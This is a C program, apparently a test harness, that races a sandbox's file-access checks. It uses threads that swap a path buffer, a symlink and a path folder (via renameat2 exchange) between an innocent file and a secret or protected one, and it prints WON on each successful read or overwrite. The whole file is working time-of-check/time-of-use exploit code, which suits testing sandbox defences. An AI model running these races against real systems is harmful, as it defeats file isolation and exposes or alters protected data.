/* Races against the file section: `file-attack WAY FOLDER SECRET PROTECTED TRIES`. Prints WON for each try that got
 * what is forbidden. */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static char buffer[512], innocent[256], *secret, *protected, link_path[256], folder_path[256];
static atomic_bool done;

static void *swap_memory(void *unused) {
    char forbidden[256];
    const char *target = unused ? protected : secret;
    snprintf(forbidden, sizeof forbidden, "%s", target);
    while (!done) {
        strcpy(buffer, innocent);
        strcpy(buffer, forbidden);
    }
    return NULL;
}

static void *swap_link(void *unused) {
    char next[300];
    (void)unused;
    snprintf(next, sizeof next, "%s.next", link_path);
    while (!done) {
        (void)!symlink(innocent, next);
        rename(next, link_path);
        (void)!symlink(secret, next);
        rename(next, link_path);
    }
    return NULL;
}

/* A folder of the path is a folder at one moment and a link to where the secret lies at the next. */
static void *swap_folder(void *unused) {
    char real[300], link[300], target[256];
    (void)unused;
    snprintf(real, sizeof real, "%s.real", folder_path);
    snprintf(link, sizeof link, "%s.link", folder_path);
    snprintf(target, sizeof target, "%s", secret);
    *strrchr(target, '/') = '\0';
    (void)!symlink(target, link);
    while (!done) {
        syscall(SYS_renameat2, AT_FDCWD, real, AT_FDCWD, folder_path, 2);
        syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, folder_path, 2);
    }
    return NULL;
}

static void look(int fd) {
    char content[64] = "";
    if (fd < 0) return;
    if (read(fd, content, sizeof content - 1) > 0 && strstr(content, "secret")) puts("WON");
    close(fd);
}

int main(int argc, char **argv) {
    pthread_t thread;
    if (argc < 6) return 64;
    const char *way = argv[1];
    int tries = atoi(argv[5]);
    secret = argv[3];
    protected = argv[4];
    snprintf(innocent, sizeof innocent, "%s/innocent", argv[2]);
    snprintf(link_path, sizeof link_path, "%s/link", argv[2]);
    snprintf(folder_path, sizeof folder_path, "%s/folder", argv[2]);
    close(open(innocent, O_CREAT | O_WRONLY, 0600));
    strcpy(buffer, innocent);
    bool by_memory = strcmp(way, "memory") == 0, by_link = strcmp(way, "link") == 0;
    if (strcmp(way, "write-memory") == 0) {
        pthread_create(&thread, NULL, swap_memory, "write");
        for (int i = 0; i < tries; i++) {
            int fd = open(buffer, O_WRONLY);
            if (fd >= 0) (void)!pwrite(fd, "WON", 3, 0);
            if (fd >= 0) close(fd);
            unlink(buffer);
            close(open(innocent, O_CREAT | O_WRONLY, 0600));
        }
    } else if (by_memory || by_link) {
        if (by_link) (void)!symlink(innocent, link_path);
        pthread_create(&thread, NULL, by_memory ? swap_memory : swap_link, NULL);
        for (int i = 0; i < tries; i++) look(open(by_memory ? buffer : link_path, O_RDONLY));
    } else {
        char real[300], path[512];
        const char *name = strrchr(secret, '/') + 1;
        snprintf(real, sizeof real, "%s.real", folder_path);
        mkdir(real, 0700);
        mkdir(folder_path, 0700);
        snprintf(path, sizeof path, "%s/%s", folder_path, name);
        pthread_create(&thread, NULL, swap_folder, NULL);
        for (int i = 0; i < tries; i++) look(open(path, O_RDONLY));
    }
    done = true;
    pthread_join(thread, NULL);
    puts("DONE");
    return 0;
}
